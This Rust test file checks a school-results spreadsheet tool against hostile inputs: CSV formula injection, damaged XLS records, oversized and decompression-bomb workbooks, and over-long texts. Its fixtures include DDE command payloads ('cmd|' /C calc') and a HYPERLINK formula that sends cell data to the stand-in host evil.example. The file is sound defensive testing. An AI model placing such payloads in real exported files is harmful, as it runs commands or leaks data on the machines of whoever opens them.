//! Hostile and unlucky inputs (issue 17): formulas in every CSV the product writes, damaged
//! workbooks that used to abort the process, files beyond the reading budgets (generated here,
//! never committed), over-long texts. Each case failed before the fix it names.

mod common;

use dtk_calc::core::identify::Settings;
use dtk_calc::core::load::{load, LoadOptions};
use dtk_calc::core::{export, overview, report, schools, template};

/// What a spreadsheet would run when the CSV is opened: a cell whose first character (or first
/// after a leading tab/CR, which spreadsheets trim) starts a formula.
fn live_formulas(csv: &[u8]) -> Vec<String> {
    let text = String::from_utf8(csv.to_vec()).unwrap();
    // The product's own reader strips the guard; read the raw cells instead.
    let mut out = Vec::new();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for rec in reader.records() {
        for cell in rec.unwrap().iter() {
            let t = cell.trim_start_matches(['\t', '\r', ' ']);
            let number = t
                .trim_start_matches(['-', '+'])
                .replace(',', ".")
                .parse::<f64>()
                .is_ok();
            if t.starts_with(['=', '+', '-', '@']) && !number && t != "-" {
                out.push(cell.to_string());
            }
        }
    }
    out
}

const HOSTILE: [(&str, &str); 4] = [
    (
        "school.name",
        "=HYPERLINK(\"http://evil.example/?\"&A1;\"Нажмите\")",
    ),
    ("school.code", "\t=cmd|' /C calc'!A0"),
    ("school.municipality", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("school.region", "+7 (999) 123-45-67"),
];

/// The example school with hostile texts in its metadata.
fn hostile_school_csv() -> String {
    let mut text = String::from_utf8(template::EXAMPLE_SCHOOL.to_vec()).unwrap();
    for (code, value) in HOSTILE {
        let start = text.find(&format!("\n{code};")).unwrap() + 1;
        let end = start + text[start..].find('\n').unwrap();
        let label = text[start..end].split(';').nth(1).unwrap().to_string();
        let quoted = format!("\"{}\"", value.replace('"', "\"\""));
        text.replace_range(start..end, &format!("{code};{label};{quoted};;"));
    }
    text
}

/// The report CSV (page button and `dtk report --csv`) guards every formula-like cell, and
/// re-opens as the identical report: the reader strips the guard.
#[test]
fn report_csv_guards_formulas_and_reopens_as_the_same_report() {
    let first = load(hostile_school_csv().as_bytes(), &LoadOptions::default()).unwrap();
    let school = &first.schools[0];
    assert_eq!(school.meta.name.as_deref(), Some(HOSTILE[0].1));
    let r = report::build(school, &Settings::default(), &first.diagnostics);
    let csv = export::report_csv(&r, &Default::default());
    assert_eq!(live_formulas(&csv), Vec::<String>::new());
    let text = String::from_utf8(csv.clone()).unwrap();
    assert!(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Нажмите\"\")\""));
    assert!(
        text.contains(";'=cmd|' /C calc'!A0;"),
        "a trimmed tab must not make it live"
    );
    let again = load(&csv, &LoadOptions::default()).unwrap();
    let r2 = report::build(&again.schools[0], &Settings::default(), &again.diagnostics);
    assert_eq!(again.schools[0].meta, school.meta);
    assert_eq!(
        export::report_csv(&r2, &Default::default()),
        csv,
        "the same report, byte for byte"
    );
}

/// The schools CSV and the template go through the same writer.
#[test]
fn schools_csv_and_template_are_guarded_too() {
    let file = "ОО;муниципалитет;учебный год;процедура;предмет;класс;участников;не справились\n\
        \"=HYPERLINK(\"\"http://evil\"\")\";\t@cmd;2022-2023;ВПР;математика;5;30;12\n\
        -2+3;Южный;2022-2023;ВПР;математика;5;30;1\n";
    let loaded = load(file.as_bytes(), &LoadOptions::default()).unwrap();
    let summary = schools::summarize(&loaded.schools, &Settings::default());
    let rows: Vec<usize> = (0..summary.schools.len()).collect();
    let csv = overview::to_csv(&summary, &loaded.info, &rows);
    assert_eq!(live_formulas(&csv), Vec::<String>::new());
    let text = String::from_utf8(csv).unwrap();
    assert!(text.contains("'-2+3;"), "{text}");
    let tpl = template::template_csv(&[dtk_calc::core::model::Year(2022)]);
    assert_eq!(live_formulas(&tpl), Vec::<String>::new());
}

// =============================================================================================
// Damaged XLS: records calamine trusts

/// `tests/fixtures/messy/s15_template.xls` with its CodePage record (and the DSF after it)
/// rewritten as an empty record of type `typ` plus an ignored filler record: 12 bytes changed.
/// An empty CodePage, FilePass or DateMode record made calamine panic (`utils.rs:45`), and with
/// `panic = "abort"` the CLI died with rc 134.
fn damaged_xls(typ: u16) -> Vec<u8> {
    let mut bytes = std::fs::read(common::fixture("messy/s15_template.xls")).unwrap();
    let at = bytes
        .windows(6)
        .position(|w| w == [0x42, 0x00, 0x02, 0x00, 0xB0, 0x04])
        .expect("the fixture's CodePage record");
    let [t0, t1] = typ.to_le_bytes();
    // Empty record `typ`, then record 0x01C0 (ignored) holding the 4 bytes left over.
    bytes[at..at + 12].copy_from_slice(&[t0, t1, 0, 0, 0xC0, 0x01, 4, 0, 0xB0, 0x04, 0x61, 0x01]);
    bytes
}

#[test]
fn empty_biff_records_are_a_damaged_file_not_a_panic() {
    for (typ, name) in [
        (0x0042, "CodePage"),
        (0x002F, "FilePass"),
        (0x0022, "DateMode"),
    ] {
        let bytes = damaged_xls(typ);
        let err = load(&bytes, &LoadOptions::default())
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with("файл похож на XLS (Excel 97–2003), но прочитать его не удалось")
                && err.contains(&format!("запись {name}"))
                && err.contains("обрезана"),
            "{err}"
        );
    }
}

/// The release CLI must unwind, so a panic in a reader is caught: `panic = "abort"` in
/// `[profile.release]` made `dtk` die with rc 134 on a damaged XLS.
#[test]
fn release_profile_unwinds() {
    let toml = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/Cargo.toml")).unwrap();
    let release = toml.split("[profile.release]").nth(1).unwrap();
    let release = release.split("\n[").next().unwrap();
    assert!(
        !release
            .lines()
            .any(|l| l.trim().starts_with("panic") && l.contains("abort")),
        "{release}"
    );
}

// =============================================================================================
// Budgets: files generated here (never committed), read by `dtk` under a memory cap

use std::io::Write as _;
use std::path::PathBuf;
use std::process::Command;

use dtk_calc::core::limits::{MAX_BOOK_CELLS, MAX_SHEET_CELLS};

/// A file in the temp directory, removed when dropped.
struct Temp(PathBuf);

impl Temp {
    fn new(name: &str, bytes: &[u8]) -> Temp {
        let path = std::env::temp_dir().join(format!("dtk-hostile-{}-{name}", std::process::id()));
        std::fs::write(&path, bytes).unwrap();
        Temp(path)
    }
    fn path(&self) -> &str {
        self.0.to_str().unwrap()
    }
}

impl Drop for Temp {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// `dtk report FILE` with its address space capped at max(256 MB, 3 × the file's size) plus
/// 96 MB for the program itself (code, stack, allocator): (exit code, stderr). An allocation
/// beyond the cap aborts the process (rc 134), which the callers rule out.
fn dtk_capped(file: &Temp) -> (Option<i32>, String) {
    let size = std::fs::metadata(file.path()).unwrap().len();
    let cap = (256u64 << 20).max(3 * size) + (96 << 20);
    let out = Command::new("prlimit")
        .arg(format!("--as={cap}"))
        .arg(env!("CARGO_BIN_EXE_dtk"))
        .args(["report", file.path()])
        .output()
        .expect("prlimit and dtk");
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// A ZIP of `(name, bytes)` parts, deflated.
fn zip_of(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in parts {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

const XLSX_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>"#;
const XLSX_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
const XLSX_WORKBOOK: &str = r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="ДТК" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
const XLSX_WB_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#;

/// An XLSX of one sheet «ДТК» with the given sheet XML body (inside `<sheetData>`) and shared
/// strings XML body (inside `<sst>`).
fn xlsx(sheet_data: &[u8], shared: &[u8]) -> Vec<u8> {
    let mut sheet = br#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#.to_vec();
    sheet.extend_from_slice(sheet_data);
    sheet.extend_from_slice(b"</sheetData></worksheet>");
    let mut sst = br#"<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">"#.to_vec();
    sst.extend_from_slice(shared);
    sst.extend_from_slice(b"</sst>");
    zip_of(&[
        ("[Content_Types].xml", XLSX_TYPES.as_bytes()),
        ("_rels/.rels", XLSX_RELS.as_bytes()),
        ("xl/workbook.xml", XLSX_WORKBOOK.as_bytes()),
        ("xl/_rels/workbook.xml.rels", XLSX_WB_RELS.as_bytes()),
        ("xl/worksheets/sheet1.xml", &sheet),
        ("xl/sharedStrings.xml", &sst),
    ])
}

/// An ODS whose one table has `body` (table rows).
fn ods(body: &str) -> Vec<u8> {
    let content = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="ДТК">{body}</table:table></office:spreadsheet></office:body></office:document-content>"#
    );
    let manifest = r#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#;
    zip_of(&[
        (
            "mimetype",
            b"application/vnd.oasis.opendocument.spreadsheet",
        ),
        ("META-INF/manifest.xml", manifest.as_bytes()),
        ("content.xml", content.as_bytes()),
    ])
}

/// Asserts a clean refusal: exit code 2 and the Russian message naming the limit.
fn refused(file: &Temp, words: &[&str]) {
    let (code, err) = dtk_capped(file);
    assert_eq!(code, Some(2), "{err}");
    for w in words {
        assert!(err.contains(w), "«{w}» not in: {err}");
    }
}

/// 875 bytes that claimed 12,4 GB: a row repeated a million times, 99 filled cells wide.
#[test]
fn ods_repeated_runs_are_measured_not_built() {
    let bytes = ods(
        r#"<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="99" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>"#,
    );
    assert!(bytes.len() < 2000, "{}", bytes.len());
    let f = Temp::new("repeat.ods", &bytes);
    refused(
        &f,
        &["на листе «ДТК» больше 2", "ячеек", "CSV", "разделите"],
    );
    // A sheet just within the budget still reads (its cells are counted, not refused).
    let rows = MAX_SHEET_CELLS / 99 / 2;
    let ok = ods(&format!(
        r#"<table:table-row><table:table-cell office:value-type="string"><text:p>код</text:p></table:table-cell></table:table-row><table:table-row table:number-rows-repeated="{rows}"><table:table-cell table:number-columns-repeated="99" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>"#
    ));
    let err = load(&ok, &LoadOptions::default()).unwrap_err();
    assert!(err.to_string().contains("не найден заголовок"), "{err}");
}

/// A small XLSX whose sheet holds more cells than a sheet may: refused while streaming.
#[test]
fn xlsx_sheet_of_too_many_cells_is_refused_in_bounded_memory() {
    let n = MAX_SHEET_CELLS + 1000;
    let mut data = Vec::new();
    let per_row = 20;
    for r in 0..n / per_row + 1 {
        write!(data, "<row r=\"{}\">", r + 1).unwrap();
        for _ in 0..per_row {
            data.extend_from_slice(b"<c><v>1</v></c>");
        }
        data.extend_from_slice(b"</row>");
    }
    let bytes = xlsx(&data, b"");
    assert!(bytes.len() < data.len() / 20);
    let f = Temp::new("cells.xlsx", &bytes);
    refused(&f, &["на листе «ДТК» больше", "ячеек", "CSV"]);
}

/// Shared strings that inflate past what is held whole (they were 1 GB from 2,9 MB).
#[test]
fn xlsx_shared_strings_bomb_is_refused_before_reading() {
    let si = b"<si><t>a</t></si>";
    let shared = si.repeat((33 << 20) / si.len());
    let bytes = xlsx(b"<row r=\"1\"><c t=\"s\"><v>0</v></c></row>", &shared);
    let f = Temp::new("sst.xlsx", &bytes);
    refused(
        &f,
        &["«xl/sharedStrings.xml»", "больше предела 32 МБ", "CSV"],
    );
}

/// Two filled cells a thousand columns apart on every row: the rows would be stored dense.
#[test]
fn dense_rows_from_sparse_cells_are_counted() {
    let rows = MAX_SHEET_CELLS / 1000 + 10;
    let mut data = Vec::new();
    for r in 1..=rows {
        write!(
            data,
            "<row r=\"{r}\"><c r=\"A{r}\"><v>1</v></c><c r=\"ALL{r}\"><v>1</v></c></row>"
        )
        .unwrap();
    }
    let bytes = xlsx(&data, b"");
    let f = Temp::new("dense.xlsx", &bytes);
    refused(&f, &["на листе «ДТК» больше", "ячеек"]);
}

/// An XLS whose one cell claims the last row and column: calamine would build 65 536 × 256.
#[test]
fn xls_cell_far_away_makes_a_rectangle_over_the_budget() {
    let mut bytes = std::fs::read(common::fixture("messy/s15_template.xls")).unwrap();
    // The first LabelSst (0x00FD, 10 bytes): row and column to 65535 and 255.
    let at = bytes
        .windows(4)
        .position(|w| w == [0xFD, 0x00, 0x0A, 0x00])
        .expect("a LabelSst record");
    bytes[at + 4..at + 8].copy_from_slice(&[0xFF, 0xFF, 0xFF, 0x00]);
    let err = load(&bytes, &LoadOptions::default())
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("на листе «№ 1» больше") && err.contains("CSV"),
        "{err}"
    );
}

/// A 190 MB CSV of one line `a;a;a;…` took 11,6 GB: it stops at the cells a row may have.
#[test]
fn one_line_csv_of_190_mb_is_refused_in_bounded_memory() {
    let bytes = b"a;".repeat(95 << 20);
    let f = Temp::new("line.csv", &bytes);
    refused(&f, &["в строке 1 больше 16\u{a0}384 ячеек", "разделитель"]);
    // With a quote somewhere the csv reader is used; it is refused before it holds the line.
    let mut quoted = b"\"a\";".to_vec();
    quoted.extend_from_slice(&b"a;".repeat(20_000));
    let err = load(&quoted, &LoadOptions::default())
        .unwrap_err()
        .to_string();
    assert!(err.contains("в строке 1 больше"), "{err}");
}

/// A record joined by quoted line breaks: every physical line is under the cap, the record is
/// not. Counting per line let the csv reader hold 3 × 10 000 cells (and, at 190 MB, hundreds of
/// megabytes of field bounds); the scan follows the reader's quoting, so it is refused.
#[test]
fn a_record_joined_by_quoted_line_breaks_is_bounded_too() {
    let part = b"a;".repeat(10_000);
    let mut joined = Vec::new();
    for _ in 0..3 {
        joined.extend_from_slice(&part);
        joined.extend_from_slice(b"\"x\ny\";");
    }
    joined.extend_from_slice(b"\nb;c\n");
    let err = load(&joined, &LoadOptions::default())
        .unwrap_err()
        .to_string();
    assert!(err.contains("в строке 1 больше"), "{err}");
    // The same cells as real records (a line break outside quotes) are a table, not a refusal,
    // and a quote in the middle of a field does not open quoting (as in the csv reader).
    let mut lines = Vec::new();
    for _ in 0..3 {
        lines.extend_from_slice(&part);
        lines.extend_from_slice(b"x\"y;\n");
    }
    assert!(!load(&lines, &LoadOptions::default())
        .map_err(|e| e.to_string())
        .err()
        .is_some_and(|e| e.contains("больше 16")));
}

/// A text table that is not a results file is split whole: its cells are bounded too.
#[test]
fn text_table_of_too_many_cells_is_refused() {
    let bytes = b"a;b;c;d;e;f;g;h\n".repeat(MAX_BOOK_CELLS as usize / 8 + 10);
    let err = load(&bytes, &LoadOptions::default())
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("к строке") && err.contains("больше 4"),
        "{err}"
    );
}

/// `dtk` looks at the size before reading: a 3 GB file (sparse, no disk used) is refused with
/// both sizes said right, within 256 MB.
#[test]
fn a_3_gb_file_is_refused_by_its_size_before_reading() {
    let f = Temp::new("huge.csv", b"");
    std::fs::OpenOptions::new()
        .write(true)
        .open(f.path())
        .unwrap()
        .set_len(3 << 30)
        .unwrap();
    let out = Command::new("prlimit")
        .arg("--as=268435456")
        .arg(env!("CARGO_BIN_EXE_dtk"))
        .args(["report", f.path()])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("файл 3,0 ГБ больше предела 200 МБ"), "{err}");
}

// =============================================================================================
// Long texts

/// An edit over 32 767 characters (Excel's cell limit) made the whole XLSX export fail with an
/// English message; now that cell is cut with a Russian note and the rest is exported.
#[test]
fn an_edit_over_the_excel_cell_limit_is_cut_with_a_note() {
    let loaded = load(template::EXAMPLE_SCHOOL, &LoadOptions::default()).unwrap();
    let r = report::build(
        &loaded.schools[0],
        &Settings::default(),
        &loaded.diagnostics,
    );
    let mut edits = export::Edits::new();
    edits.insert("1.2/conclusion".to_string(), "ж".repeat(40_000));
    let pairs = export::edited_pairs(&r, &edits);
    assert!(pairs.iter().any(|s| s.conclusion.chars().count() == 40_000));
    let xlsx = export::report_xlsx(&r, &edits, "01.12.2026").expect("the export works");
    // The workbook re-opens as the same school.
    let again = load(&xlsx, &LoadOptions::default()).unwrap();
    assert_eq!(again.schools[0].meta, loaded.schools[0].meta);
    let cut = export::fit(&"ж".repeat(40_000)).into_owned();
    assert_eq!(cut.chars().count(), export::XLSX_CELL_CHARS);
    assert!(cut.ends_with("в выгрузке JSON]") && cut.contains("текст обрезан"));
    assert_eq!(export::fit("коротко"), "коротко");
}

/// A results file of one school per row (20 MB took 441 MB: 21 × its size): refused past
/// `MAX_SCHOOLS`, in bounded memory.
#[test]
fn a_results_file_of_too_many_schools_is_refused_in_bounded_memory() {
    let mut text = String::from(
        "ОО;муниципалитет;учебный год;процедура;предмет;класс;участников;не справились\n",
    );
    for i in 0..dtk_calc::core::limits::MAX_SCHOOLS + 10 {
        text.push_str(&format!(
            "Школа {i};М{};2022-2023;ВПР;математика;5;30;{}\n",
            i % 100,
            i % 30
        ));
    }
    let f = Temp::new("schools.csv", text.as_bytes());
    refused(&f, &["больше 100\u{a0}000 школ", "столбец «ОО»"]);
}
